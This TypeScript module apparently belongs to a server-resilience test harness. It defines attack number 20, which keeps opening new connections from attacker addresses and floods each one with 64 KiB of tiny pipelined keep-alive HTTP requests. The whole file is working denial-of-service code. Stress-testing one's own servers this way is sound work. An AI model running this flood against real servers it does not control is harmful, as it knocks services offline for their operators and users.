import { setTimeout as delay } from 'node:timers/promises';
import { attackerAddress } from '../addresses.ts';
import type { Attack } from '../attack.ts';
import { HeldSockets } from '../held-sockets.ts';

const chunkBytes = 64 * 1024;
const request = 'GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n';
const betweenMs = 50;

/** As much as a server reads at once, full of requests that ask for nothing, over new connections all the time. */
export const pipelinedRequests: Attack = {
  id: '20',
  name: '64 KiB of tiny pipelined requests',
  seconds: 15,
  prepare: async ({ url }) => {
    const port = Number(new URL(url).port);
    const first = Buffer.from(request.repeat(chunkBytes / request.length));
    return async (over) => {
      const sockets = new HeldSockets();
      while (!over.aborted) {
        await sockets.open({ port, count: 1, localAddress: () => attackerAddress(), first, over });
        await delay(betweenMs);
      }
      return `answers: ${sockets.answers}`;
    };
  },
};
